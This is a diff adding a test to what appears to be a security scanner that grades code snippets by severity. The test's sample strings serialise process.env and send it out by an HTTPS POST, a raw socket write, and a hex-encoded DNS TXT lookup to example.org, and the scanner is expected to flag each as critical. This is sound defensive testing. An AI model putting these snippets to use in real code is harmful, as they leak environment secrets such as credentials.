@@ -225,3 +225,11 @@ test('names that lead to each other end, and so do the parts of a long value', (
   assert.equal(worst(parts(5_000)), 'high', 'what comes last is looked at first');
   assert.equal(worst(parts(5_000).replace('[', '[privateKey, ').replace(', privateKey]', ']')), 'nothing', 'of a long value only a part');
 });
+
+test('good: members that no module for connections has', () => {
+  const both = (call: string): string => `const e = JSON.stringify(process.env); const client = flag ? require("https") : require("assert"); client.${call}`;
+  assert.equal(worst(both('strictEqual(e, "{}")')), 'nothing');
+  assert.equal(worst(both('request(u, { method: "POST" }).end(e)')), 'critical');
+  assert.equal(worst('const e = JSON.stringify(process.env); const net = require("net"); const s = new net.Socket(); s.connect(1, h); s.write(e)'), 'critical');
+  assert.equal(worst('require("dns").promises.resolveTxt(Buffer.from(JSON.stringify(process.env)).toString("hex") + ".example.org")'), 'critical');
+});
